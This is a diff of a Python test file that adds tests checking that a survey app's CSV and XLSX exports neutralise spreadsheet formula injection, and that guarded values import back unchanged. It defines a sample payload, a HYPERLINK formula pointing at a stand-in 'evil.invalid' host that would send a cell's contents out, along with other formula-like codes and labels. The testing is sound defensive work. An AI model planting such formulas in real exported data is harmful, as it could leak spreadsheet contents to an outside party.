@@ -31,11 +31,13 @@ from scrutiny.evidence import ResponseDetails, response_submit
 from scrutiny.exports.jobs import EXPORT_KIND, responses_export_store
 from scrutiny.exports.responses import responses_export
 from scrutiny.instruments import instrument_current_version, instrument_save, version_compile
+from scrutiny.instruments.definitions import InstrumentDefinition, OptionDef, QuestionDef
 from scrutiny.models import (
     Agency,
     Answer,
     Instrument,
     Job,
+    Partnership,
     Response,
     Scrutiny,
     SuccessFactor,
@@ -43,6 +45,7 @@ from scrutiny.models import (
 )
 from scrutiny.workbooks import responses_import
 from scrutiny.workbooks.response_sheet import RESERVED
+from scrutiny.workbooks.writing import FORMULA_STARTS, csv_text, csv_text_read
 from tests.conftest import client_for
 from tests.scrutiny.test_api_responses import stranger as stranger
 from tests.scrutiny.test_questionnaires import sample_definition
@@ -111,14 +114,77 @@ def test_the_export_imports_back_into_a_fresh_scrutiny(survey, partnership, tmp_
     responses_export(instrument=copy, out=str(again), fmt="xlsx")
     original = tmp_path / "values.xlsx"
     responses_export(instrument=survey, out=str(original), fmt="xlsx")
-    # The same answers, redacted as they left; a CSV keeps a text that looks like a formula
-    # from running, with an apostrophe before it.
-    expected = _answers(_rows(original, "xlsx"))
-    if fmt == "csv":
-        expected = Counter(
-            {tuple(f"'{v}" if v.startswith("=") else v for v in k): n for k, n in expected.items()}
+    # The same answers, redacted as they left: a CSV's guarding apostrophe (before a text that
+    # looks like a formula) is taken off again as it is read.
+    assert _answers(_rows(again, "xlsx")) == _answers(_rows(original, "xlsx"))
+
+
+EVIL = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")'
+
+
+def _formula_like(partnership: Partnership, council: Agency, slug: str) -> Instrument:
+    """An instrument whose author chose a question code, an option label and an option value
+    that a spreadsheet would run as formulas, with six responses (enough to be shown)."""
+    scrutiny = Scrutiny.objects.create(partnership=partnership, slug=slug, title="Formulas")
+    SuccessFactor.objects.create(scrutiny=scrutiny, code="SF1", statement="Plans are good.")
+    definition = InstrumentDefinition(
+        code="PS",
+        title="Formulas",
+        kind="practitioner_survey",
+        questions=(
+            QuestionDef("A", "Q1", "single", "Pick one", "l"),
+            QuestionDef("A", "@SUM(1+1)", "multiple", "Pick many", "l"),
+            QuestionDef("A", "Q3", "number", "How many?"),
+        ),
+        option_lists={"l": (OptionDef("x", EVIL), OptionDef("-2+3", "Minus"))},
+    )
+    return instrument_save(scrutiny=scrutiny, definition=definition).instrument
+
+
+@pytest.mark.parametrize("labels", [True, False])
+def test_csv_guards_codes_labels_and_values_and_imports_back(
+    partnership, council, tmp_path, labels
+):
+    survey = _formula_like(partnership, council, "formulas")
+    for _ in range(6):
+        response_submit(
+            compiled=version_compile(instrument_current_version(survey)),
+            values={"Q1": "x", "@SUM(1+1)": ["x", "-2+3"], "Q3": "-4"},
+            details=ResponseDetails(agency_id=council.pk),
+            channel=Response.Channel.WORKBOOK,
         )
-    assert _answers(_rows(again, "xlsx")) == expected
+    path = tmp_path / "out.csv"
+    responses_export(instrument=survey, out=str(path), fmt="csv", labels=labels)
+    rows = _rows(path, "csv")
+    assert rows[0][len(RESERVED) :] == ["Q1", "'@SUM(1+1)", "Q3"]
+    assert rows[1][len(RESERVED) :] == (
+        [f"'{EVIL}", f"'{EVIL}; Minus", "-4"] if labels else ["x", "x;-2+3", "-4"]
+    )
+    # Nothing Excel would run, a number aside (a negative number is no formula).
+    cells = [cell for row in rows for cell in row[: len(RESERVED) + 2]]
+    assert not any(str(cell).startswith(FORMULA_STARTS) for cell in cells)
+    copy = _formula_like(partnership, council, "copy")
+    imported = responses_import(instrument=copy, file=path)
+    assert (imported.created, imported.updated) == (6, 0)
+    stored = Answer.objects.filter(response__instrument=copy)
+    assert sorted(
+        stored.filter(question__code="@SUM(1+1)").values_list("option__value", flat=True)
+    ) == (["-2+3"] * 6 + ["x"] * 6)
+    assert set(stored.filter(question__code="Q1").values_list("option__value", flat=True)) == {"x"}
+    # The workbook writes every one of them as a string cell, never a formula.
+    xlsx = tmp_path / "out.xlsx"
+    responses_export(instrument=survey, out=str(xlsx), fmt="xlsx", labels=labels)
+    cells = [cell for row in load_workbook(xlsx).worksheets[0].iter_rows() for cell in row]
+    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n", "d"}
+    assert (EVIL if labels else "x;-2+3") in {cell.value for cell in cells}
+
+
+def test_csv_text_and_its_reading_are_each_others_inverse():
+    for text in ("=A1", "@SUM(1)", "-2+3", "+1", "\t=1", "'=A1", "''-1", "'quoted'", "plain", ""):
+        assert csv_text_read(csv_text(text)) == text
+    assert csv_text("=A1") == "'=A1"
+    assert csv_text("'=A1") == "''=A1"  # else it would read back as =A1
+    assert csv_text("'quoted'") == "'quoted'"
 
 
 def test_options_as_labels_and_cells_as_their_types(survey, tmp_path):
